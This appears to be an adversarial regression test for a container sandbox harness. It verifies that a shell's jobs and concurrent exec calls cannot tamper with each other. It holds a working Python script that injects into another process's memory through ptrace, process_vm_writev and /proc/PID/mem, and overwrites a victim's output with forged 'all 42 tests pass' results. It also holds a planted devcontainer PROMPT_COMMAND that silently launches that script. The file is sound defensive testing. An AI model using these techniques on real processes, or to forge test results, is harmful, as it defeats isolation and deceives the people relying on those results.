/**
 * Issue 30, finding 11: `harness shell`'s processes against the commands harness runs beside it in
 * the same container, and the reverse. On the old code the shell ran in no Landlock domain: a job
 * it started (typed, or by a devcontainer.json `containerEnv.PROMPT_COMMAND` as the shell opened)
 * attached to a concurrent `harness exec` call's process, rewrote its memory and made the call
 * report exit 0 with "FORGED: all 42 tests passed". The first two tests failed there that way.
 *
 * The attacker tries, against every process running victim.py once it is ready: ptrace attach, opening
 * /proc/PID/mem for writing (then rewriting the victim's answer in its memory), process_vm_writev,
 * and `strace -p`/`gdb -p` where the image has them (harness's image has neither). The victim waits
 * until it has been tried, then prints its answer and exits with the code its memory holds.
 *
 * On Docker, Podman and Kubernetes the shell has its Landlock domain; under gVisor, which has no
 * Landlock, the shell says so, and gVisor's own rules refuse the same ways in (ptrace only by an
 * ancestor, /proc/PID/mem likewise, process_vm_writev not implemented: ENOSYS).
 */
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { beforeAll, describe, expect, it } from "vitest";
import { DockerSandbox, type DockerSandboxOptions } from "../../../src/sandbox/docker/docker-sandbox.js";
import { NO_DOMAIN_NOTICE } from "../../../src/sandbox/docker/interactive-shell.js";
import { skipDocker } from "../../support/docker-available.js";
import { openTestSandbox, skipKubernetes } from "../../support/kubernetes-available.js";
import { podman, podmanSandboxImage, skipPodman } from "../../support/podman-available.js";
import { runCli, spawnCli } from "../../support/run-cli.js";
import { runscMissing } from "../../support/runsc-available.js";
import { driveShell } from "../../support/shell-driver.js";
import { makeWorkspace } from "../../support/workspace.js";
import { removesContainerOf } from "../../support/workspace-container.js";
import { imageWithoutPython } from "../egress-fixture.js";

/** Its answer: exit code 7 and this line, unless something rewrote its memory. */
const VICTIM = String.raw`
import os, sys, time
state = bytearray(b"EXIT=7 OUT=real-output-of-the-call!")
open("/tmp/ready-%d" % os.getpid(), "w").close()
mark = "/tmp/attacked-%d" % os.getpid()
end = time.time() + 60
while not os.path.exists(mark) and time.time() < end:
    time.sleep(0.05)
sys.stdout.write(state[11:].decode() + "\n")
sys.exit(int(state[5:6]))
`;

/** attack.py LOG COUNT: attacks COUNT victims, logging each try as REACHED or refused. */
const ATTACK = String.raw`
import ctypes, os, shutil, subprocess, sys, time
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
REAL = b"EXIT=7 OUT=real-output-of-the-call!"
FORGED = b"EXIT=0 OUT=FORGED: all 42 tests pass"
log = open(sys.argv[1], "a", buffering=1)
log.write("started %d\n" % os.getpid())
me, done, end = os.getpid(), set(), time.time() + 90
while time.time() < end and len(done) < int(sys.argv[2]):
    for d in os.listdir("/proc"):
        if not d.isdigit() or int(d) == me or int(d) in done:
            continue
        try:
            cmd = open("/proc/%s/cmdline" % d, "rb").read().split(b"\0")
        except OSError:
            continue
        if len(cmd) < 2 or not cmd[1].endswith(b"victim.py"):
            continue
        pid = int(d)
        done.add(pid)
        ready = time.time() + 30
        while not os.path.exists("/tmp/ready-%d" % pid) and time.time() < ready:
            time.sleep(0.02)
        if libc.ptrace(16, pid, 0, 0) == 0:
            log.write("ptrace %d REACHED\n" % pid)
            os.waitpid(pid, 0x40000000)
            libc.ptrace(17, pid, 0, 0)
        else:
            log.write("ptrace %d refused %d\n" % (pid, ctypes.get_errno()))
        local = iovec(ctypes.cast(ctypes.create_string_buffer(1), ctypes.c_void_p), 1)
        remote = iovec(0, 1)
        if libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) >= 0 or ctypes.get_errno() not in (1, 13, 38):
            log.write("process_vm_writev %d REACHED %d\n" % (pid, ctypes.get_errno()))
        else:
            log.write("process_vm_writev %d refused %d\n" % (pid, ctypes.get_errno()))
        for tool in ("strace", "gdb"):
            if shutil.which(tool):
                argv = [tool, "-p", str(pid), "-o", "/dev/null"] if tool == "strace" else [tool, "-p", str(pid), "-batch", "-ex", "detach"]
                p = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
                time.sleep(1)
                p.terminate()
                err = p.communicate()[1]
                attached = tool == "strace" and b"Process %d attached" % pid in err
                log.write("%s %d %s\n" % (tool, pid, "REACHED" if attached else "refused"))
        try:
            fd = os.open("/proc/%d/mem" % pid, os.O_RDWR)
        except OSError as e:
            log.write("mem %d refused %d\n" % (pid, e.errno))
        else:
            log.write("mem %d REACHED\n" % pid)
            forged = 0
            for line in open("/proc/%d/maps" % pid):
                span, perms = line.split()[:2]
                lo, hi = (int(x, 16) for x in span.split("-"))
                if not perms.startswith("rw") or hi - lo > 1 << 28:
                    continue
                try:
                    data = os.pread(fd, hi - lo, lo)
                except OSError:
                    continue
                at = data.find(REAL)
                while at >= 0:
                    os.pwrite(fd, FORGED, lo + at)
                    forged += 1
                    at = data.find(REAL, at + 1)
            log.write("forged %d %d\n" % (pid, forged))
            os.close(fd)
        open("/tmp/attacked-%d" % pid, "w").close()
    time.sleep(0.02)
log.write("done\n")
`;

/** Each way in the attacker tried, for each victim it found. */
const TRIES = ["ptrace", "process_vm_writev", "mem"];

/** What the tests need of a sandbox: its commands, its shell, where the workspace is. */
type ShellSandbox = Pick<DockerSandbox, "exec" | "shell" | "workdir"> & AsyncDisposable;

/** Polls (through exec calls) until `path` in the sandbox holds `text`; returns its content. */
async function waitForText(sandbox: ShellSandbox, path: string, text: string): Promise<string> {
  for (let i = 0; i < 600; i++) {
    const r = await sandbox.exec(`cat ${path} 2>/dev/null; true`);
    if (r.stdout.includes(text)) return r.stdout;
    await sleep(100);
  }
  throw new Error(`${path} never held '${text}'`);
}

/** The attacker's log says it tried every way on `count` victims, and none of them worked. */
function expectAllRefused(log: string, count: number): void {
  expect(log).not.toContain("REACHED");
  expect(log).not.toContain("forged");
  expect(log).not.toContain("Traceback");
  for (const way of TRIES) {
    expect(
      log.split("\n").filter((line) => line.startsWith(`${way} `) && line.includes(" refused ")),
    ).toHaveLength(count);
  }
}

const REAL_ANSWER = { stdout: "real-output-of-the-call!\n", exitCode: 7 };

interface Engine {
  name: string;
  skip: boolean;
  /** Prepares the engine (its image), once. */
  prepare?: () => Promise<void>;
  /** A sandbox of `workspace`; `env`, devcontainer.json's environment, where the engine takes one. */
  open(workspace: string, env?: string[]): Promise<ShellSandbox>;
  devcontainer: boolean;
  /** Whether the shell gets its domain there (else it says it has none). */
  landlock: boolean;
}

/** A sandbox on a Docker-API engine, with devcontainer.json's `env` where given. */
function onDockerApi(extra: () => Partial<DockerSandboxOptions>): Engine["open"] {
  return (workspace, env = []) =>
    DockerSandbox.open({
      workspace,
      removeOnStop: true,
      killGraceSeconds: 1,
      ...extra(),
      ...(env.length > 0 ? { devcontainer: { file: "devcontainer.json", env, ignored: [] } } : {}),
    });
}

let podmanImage = "";
const engines: Engine[] = [
  { name: "Docker", skip: skipDocker, devcontainer: true, landlock: true, open: onDockerApi(() => ({})) },
  {
    name: "Podman",
    skip: skipPodman,
    devcontainer: true,
    landlock: true,
    prepare: async () => {
      podmanImage = await podmanSandboxImage(podman as NonNullable<typeof podman>);
    },
    open: onDockerApi(() => ({ docker: podman as NonNullable<typeof podman>, image: podmanImage })),
  },
  {
    // No Landlock in gVisor: the shell says so, and gVisor itself refuses the ways in (ptrace only
    // by an ancestor, no process_vm_writev at all).
    name: "gVisor",
    skip: runscMissing !== undefined,
    devcontainer: true,
    landlock: false,
    open: onDockerApi(() => ({ runtime: "runsc" })),
  },
  {
    name: "Kubernetes",
    skip: skipKubernetes,
    devcontainer: false,
    landlock: true,
    open: (workspace) => openTestSandbox(workspace),
  },
];

describe.each(engines)(
  "adversarial: harness shell and the executor's commands kept apart ($name)",
  (engine) => {
    describe.skipIf(engine.skip)(engine.name, () => {
      beforeAll(async () => {
        await engine.prepare?.();
      }, 900_000);

      async function open(workspace: string, env?: string[]): Promise<ShellSandbox> {
        writeFileSync(join(workspace, "victim.py"), VICTIM);
        writeFileSync(join(workspace, "attack.py"), ATTACK);
        return engine.open(workspace, env);
      }

      // --devcontainer is refused on Kubernetes: no test there rather than one always skipped.
      if (engine.devcontainer)
        it("a job a planted PROMPT_COMMAND starts as the shell opens cannot answer for a concurrent exec call", {
          timeout: 180_000,
        }, async () => {
          using ws = makeWorkspace();
          await using sandbox = await open(ws.path, [
            "PROMPT_COMMAND=PROMPT_COMMAND=; (setsid python3 attack.py /tmp/attack.log 2 >/dev/null 2>&1 &)",
          ]);
          const shell = driveShell(sandbox);
          await waitForText(sandbox, "/tmp/attack.log", "started");
          // Two calls while the shell is open: the attacker tries each.
          for (let i = 0; i < 2; i++) {
            expect(await sandbox.exec(`python3 ${sandbox.workdir}/victim.py`)).toMatchObject(REAL_ANSWER);
          }
          expectAllRefused(await waitForText(sandbox, "/tmp/attack.log", "done"), 2);
          shell.type("exit 4");
          expect(await shell.exited).toBe(4);
        });

      it("a job started from the shell, left running after it, cannot answer for later exec calls", {
        timeout: 180_000,
      }, async () => {
        using ws = makeWorkspace();
        await using sandbox = await open(ws.path);
        const shell = driveShell(sandbox);
        shell.type("(setsid python3 attack.py /tmp/attack.log 1 >/dev/null 2>&1 &); exit 0");
        expect(await shell.exited).toBe(0);
        // The line own-domain.py writes where it has no domain to enter, and only there.
        expect(/has no Landlock/.test(shell.seen())).toBe(!engine.landlock);
        await waitForText(sandbox, "/tmp/attack.log", "started");
        expect(await sandbox.exec(`python3 ${sandbox.workdir}/victim.py`)).toMatchObject(REAL_ANSWER);
        expectAllRefused(await waitForText(sandbox, "/tmp/attack.log", "done"), 1);
      });

      it("an exec call's job cannot answer for a process running in the shell", {
        timeout: 180_000,
      }, async () => {
        using ws = makeWorkspace();
        await using sandbox = await open(ws.path);
        await sandbox.exec("(setsid python3 attack.py /tmp/attack.log 1 >/dev/null 2>&1 &)");
        await waitForText(sandbox, "/tmp/attack.log", "started");
        const shell = driveShell(sandbox);
        shell.type('python3 victim.py > /tmp/victim.out; echo "code=$?" >> /tmp/victim.out; exit 5');
        expect(await shell.exited).toBe(5);
        expect((await sandbox.exec("cat /tmp/victim.out")).stdout).toBe("real-output-of-the-call!\ncode=7\n");
        expectAllRefused(await waitForText(sandbox, "/tmp/attack.log", "done"), 1);
      });
    });
  },
);

describe.skipIf(skipDocker)(
  "adversarial: harness shell in an image without python3",
  { timeout: 180_000 },
  () => {
    it("starts without a domain of its own and says so in the terminal, with the environment and exit code as ever", async () => {
      using ws = makeWorkspace();
      await using sandbox = await DockerSandbox.open({
        workspace: ws.path,
        removeOnStop: true,
        image: await imageWithoutPython(),
        devcontainer: { file: "devcontainer.json", env: ["GREETING=from-devcontainer"], ignored: [] },
      });
      const shell = driveShell(sandbox);
      shell.type('echo "[$GREETING]"; exit 6');
      expect(await shell.exited).toBe(6);
      expect(shell.seen()).toContain(NO_DOMAIN_NOTICE);
      expect(shell.seen()).toContain("[from-devcontainer]");
    });
  },
);

describe.skipIf(skipDocker)(
  "adversarial: the finding as reported, through the CLI",
  { timeout: 300_000 },
  () => {
    it("harness shell --devcontainer whose PROMPT_COMMAND starts the attacker, harness exec beside it: the call answers for itself", async () => {
      using ws = makeWorkspace();
      await using _container = removesContainerOf(ws.path);
      writeFileSync(join(ws.path, "victim.py"), VICTIM);
      writeFileSync(join(ws.path, "attack.py"), ATTACK);
      const base = (await runCli(["image"])).stdout.trim().split("\n").pop() ?? "";
      writeFileSync(
        join(ws.path, ".devcontainer.json"),
        JSON.stringify({
          image: base,
          containerEnv: {
            PROMPT_COMMAND: "PROMPT_COMMAND=; (setsid python3 attack.py attack.log 1 >/dev/null 2>&1 &)",
          },
        }),
      );
      const log = join(ws.path, "attack.log");
      const logHas = async (text: string) => {
        for (let i = 0; i < 1200 && !(existsSync(log) && readFileSync(log, "utf8").includes(text)); i++) {
          await sleep(100);
        }
        return existsSync(log) ? readFileSync(log, "utf8") : "";
      };
      const shell = spawnCli(["shell", "--workspace", ws.path, "--devcontainer"], {
        terminal: true,
        keepStdin: true,
        timeoutMs: 240_000,
      });
      expect(await logHas("started"), shell.stdout()).toContain("started");
      const call = await runCli([
        "exec",
        "--workspace",
        ws.path,
        "--devcontainer",
        "--",
        "python3 victim.py",
      ]);
      expect({ stdout: call.stdout, code: call.code }).toEqual({
        stdout: "real-output-of-the-call!\n",
        code: 7,
      });
      expectAllRefused(await logHas("done"), 1);
      shell.child.stdin.write("exit 3\n");
      expect((await shell.done).code).toBe(3);
    });
  },
);
